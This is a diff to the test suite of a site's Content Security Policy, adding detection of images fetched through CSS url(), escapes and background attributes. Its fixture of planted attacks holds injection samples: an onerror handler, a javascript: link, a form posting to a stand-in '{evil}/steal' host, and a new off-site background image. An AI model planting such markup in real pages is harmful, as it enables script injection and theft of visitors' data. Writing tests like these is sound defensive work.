@@ -34,6 +34,12 @@ Slug: interview-outfits
 | suit | jacket |
 
 ![A 2014 photo of a suit](https://media.oldblog.example/2014/03/suit.jpg "Then")
+
+<div class="wp-block-cover" style="background-image:url(https://covers.oldblog.example/2014/cover.jpg);min-height:2em">
+<p>A cover block, as WordPress wrote them: the image in the style attribute.</p>
+</div>
+
+<table background="https://covers.oldblog.example/2014/paper.png"><tr><td>An old table</td></tr></table>
 """
 VIDEO_PAGE = """\
 Title: Watch the Workshop
@@ -106,7 +112,7 @@ def test_every_page_of_a_production_build_carries_the_policy_first(production):
 def test_the_policy_allows_what_the_content_uses_and_the_form_services(production):
     output, _warnings = production
     policy = policy_of(page(output, ARTICLE))
-    assert policy["img-src"] == ["'self'", "https://media.oldblog.example"]
+    assert policy["img-src"] == ["'self'", "https://covers.oldblog.example", "https://media.oldblog.example"]
     assert policy["form-action"] == ["'self'", "https://formspree.io", "https://newsletter.example"]
     assert policy["style-src"] == ["'self'"] and policy["style-src-attr"] == ["'unsafe-inline'"]
     assert policy["font-src"] == ["'self'", "https://fonts.example"]  # the owner's CSP_SOURCES
@@ -220,7 +226,8 @@ def test_a_fetch_from_another_site_is_found_however_its_url_is_written(html):
 FRAGMENTS = st.sampled_from(
     ["<img", "<IMG", "<iMg", "<source", "<video", "<audio", "<track", "<iframe", "<a", "<p>", " src=", " srcset=",
      " poster=", " href=", '"', "'", "//", "https://", "data:", "&#58;", "&colon;", "&sol;", "x.example", "/a.png",
-     ">", " ", "\n", "<!--", "-->", "<script>", "</script>", ", ", " 2x", "\u212a"]
+     ">", " ", "\n", "<!--", "-->", "<script>", "</script>", ", ", " 2x", "\u212a", " style=", "STYLE=", "url(",
+     "<table", " background=", ")", "/*", "*/"]
 )  # fmt: skip
 
 
@@ -258,6 +265,7 @@ PLANTED = """
 <img src="x" onerror="document.documentElement.dataset.planted = 'handler'">
 <a id="planted-link" href="javascript:document.documentElement.dataset.planted = 'link'">a link</a>
 <form id="planted-form" action="{evil}/steal" method="post"><input name="q" value="1"><button>Send</button></form>
+<div style="background-image: url({evil}/planted.png); min-height: 1em">a background no post uses</div>
 """
 
 
@@ -347,6 +355,7 @@ def test_a_script_planted_in_a_page_does_not_run(browser_page, strict_site):
     assert browser_page.evaluate("document.documentElement.dataset.planted") is None
     directives = {v.split()[0] for v in violations(browser_page)}
     assert {"script-src-elem", "script-src-attr"} <= directives, violations(browser_page)
+    assert f"img-src {strict_site['elsewhere'].url}/planted.png" in violations(browser_page)  # precise, not open
     assert not [r for r in strict_site["elsewhere"].requests if "evil.js" in r]  # never even fetched
     reported = len(violations(browser_page))
     browser_page.locator("#planted-link").click()  # a javascript: URL is a script too
@@ -408,6 +417,32 @@ def test_a_srcset_is_split_as_browsers_split_it_and_a_repeated_attribute_counts_
         '<img src="x.png" src="https://dup.example/x.png">'
     )
     assert fetched_sources(html) == {"img-src": {"https://a.example", "https://c.example", "https://d.example"}}
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<div style=\"background-image: url('https://cdn.example.com/a.jpg')\">x</div>",
+        '<div style="background:URL(https://cdn.example.com/b.png) no-repeat">x</div>',
+        '<div style="background: u\\72l(https://cdn.example.com/c.png)">x</div>',  # an escape, as CSS reads it
+        '<div style="background: url( https://cdn.example.com/d.png )">x</div>',
+        '<div style="background: url(https://cdn.example.com/e.png">x</div>',  # unclosed at the end: still fetched
+        "<span style=\"background-image: image-set('https://cdn.example.com/f.png' 1x)\">x</span>",
+        '<svg><rect style="fill: red; mask-image: url(&quot;https://cdn.example.com/m.svg&quot;)"/></svg>',
+        '<table background="https://cdn.example.com/t.png"><tr><td>x</td></tr></table>',
+        '<table><tr><td background="//cdn.example.com/td.png">x</td></tr></table>',
+    ],
+)
+def test_an_image_in_css_or_a_background_attribute_is_found(html):
+    assert fetched_sources(html) in ({"img-src": {"cdn.example.com"}}, {"img-src": {"https://cdn.example.com"}})
+
+
+def test_css_that_fetches_nothing_from_another_site_adds_nothing():
+    assert fetched_sources('<div style="/* url(https://a.example/x.png) */ color: red">x</div>') == {}
+    assert fetched_sources("<div style=\"content: 'url(https://b.example/x.png)'\">x</div>") == {}  # a string
+    assert fetched_sources('<div style="filter: url(#shadow); background: url(images/x.png)">x</div>') == {}
+    assert fetched_sources('<p background="https://c.example/p.png">no such attribute on a paragraph</p>') == {}
+    assert fetched_sources('<div style="background: url(javascript:alert(1))">x</div>') == {}
 
 
 def test_what_a_browser_never_fetches_from_another_site_adds_nothing():
